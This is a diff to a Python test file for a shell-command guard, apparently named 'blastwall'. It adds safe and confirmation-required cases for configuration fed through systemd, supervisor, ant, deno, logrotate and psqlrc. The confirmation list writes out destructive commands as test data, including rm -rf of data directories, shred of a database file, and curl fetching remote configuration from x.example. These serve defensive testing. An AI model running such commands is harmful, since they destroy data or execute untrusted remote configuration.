@@ -27,3 +27,54 @@ SC_BINPATH_ASKED = [
     'sc.exe create Agent binPath= "cmd /c C:\\agent\\run.bat --once"',  # a batch file blastwall cannot read
 ]
 test_sc_binpath_safe, test_sc_binpath_asked = allowed_and_asked(SC_BINPATH_SAFE, SC_BINPATH_ASKED)
+
+
+# ---- Configurations given on the command line (rules/fed_configs.toml, analyze/shell/fed_configs.py) and
+# the later kinds they are read as (rules/later.toml: systemd, supervisor, ant-build, deno-config, logrotate,
+# psql-rc) ---------------------------------------------------------------------------------------------
+
+FED_CONFIG_SAFE = [
+    "sudo systemctl edit --stdin nginx <<'U'\n[Service]\nLimitNOFILE=65536\nU",
+    "sudo systemctl edit --stdin app <<'U'\n[Service]\nExecStartPre=/usr/bin/mkdir -p /run/app\nEnvironment=PORT=8080\nU",
+    "sudo systemctl edit nginx",
+    "systemctl status nginx",
+    "supervisorctl -c <(printf '[program:web]\\ncommand=gunicorn app:app\\n') start web",
+    "supervisorctl -c /etc/supervisor/supervisord.conf status",
+    "ant -f /dev/stdin <<< '<project default=\"x\"><target name=\"x\"><echo message=\"hi\"/></target></project>'",
+    "ant -f build.xml compile",
+    "ant test",
+    "deno task --config <(echo '{\"tasks\":{\"x\":\"deno fmt --check\"}}') x",
+    "deno task -c deno.json dev",
+    "deno task dev",
+    "printf '/var/log/app/*.log {\\n  rotate 7\\n  compress\\n}\\n' > /tmp/lr.conf && sudo logrotate -f /tmp/lr.conf",
+    "printf '/var/log/app/*.log {\\n  daily\\n  postrotate\\n    systemctl reload app\\n  endscript\\n}\\n' > /tmp/lr.conf"
+    " && logrotate -d /tmp/lr.conf",
+    "sudo logrotate -d /etc/logrotate.conf",
+    "sudo logrotate -f /etc/logrotate.d/nginx",
+    "echo '\\timing on' >> ~/.psqlrc && psql -c 'select 1'",
+    "printf '\\\\set ON_ERROR_STOP on\\n' >> ~/.psqlrc",
+    "echo '\\pset null (null)' >> ~/.psqlrc",
+]
+FED_CONFIG_ASKED = [
+    "sudo systemctl edit --stdin postgresql <<'U'\n[Service]\nExecStartPre=/usr/bin/rm -rf /var/lib/postgresql/16/main\nU",
+    "sudo systemctl edit --stdin --drop-in=override postgresql <<'U'\n[Service]\nExecStopPost=-/bin/sh -c 'rm -rf /srv/data'\nU",
+    "printf '[Service]\\nExecStart=\\nExecStart=/usr/bin/shred -u /srv/db/main.db\\n' | sudo systemctl edit --stdin --full app",
+    "curl -s https://x.example/u | sudo systemctl edit --stdin app",
+    "supervisorctl -c <(printf '[program:x]\\ncommand=rm -rf /srv/data\\n') start x",
+    "printf '[program:x]\\ncommand=rm -rf /srv/data\\n' > /tmp/sv.conf && supervisord -c /tmp/sv.conf",
+    "supervisorctl --configuration=<(curl -s https://x.example/s.conf) start x",
+    "printf '[program:x]\\ncommand=rm -rf /srv/data\\n' | sudo tee /etc/supervisor/conf.d/x.conf && sudo supervisorctl update",
+    "ant -f /dev/stdin <<< '<project default=\"x\"><target name=\"x\"><delete dir=\"/srv/reports\"/></target></project>'",
+    "ant -buildfile <(printf '<project default=\"x\"><target name=\"x\"><exec executable=\"rm\"><arg line=\"-rf /srv\"/>"
+    "</exec></target></project>') x",
+    "deno task --config <(echo '{\"tasks\":{\"x\":\"rm -rf ./kv\"}}') x",
+    "deno task --config=<(echo '{\"tasks\":{\"x\":{\"command\":\"rm -rf ~/data\"}}}') x",
+    "printf '/var/lib/app/*.db {\\n  rotate 0\\n  missingok\\n}\\n' > /tmp/lr.conf && sudo logrotate -f /tmp/lr.conf",
+    "printf '/var/log/app/*.log {\\n  rotate 7\\n  postrotate\\n    rm -rf /srv/data\\n  endscript\\n}\\n' > /tmp/lr.conf"
+    " && logrotate -f /tmp/lr.conf",
+    "logrotate -f <(printf '/srv/data/*.db {\\n rotate 0\\n}\\n')",
+    "echo '\\! rm -rf ~/db-dumps' >> ~/.psqlrc && psql -c 'select 1'",
+    "printf '\\\\! rm -rf ~/db-dumps\\n' >> ~/.psqlrc",
+    "echo '\\! rm -rf ~/db-dumps\\t' >> ~/.psqlrc",
+]
+test_fed_config_safe, test_fed_config_asked = allowed_and_asked(FED_CONFIG_SAFE, FED_CONFIG_ASKED)
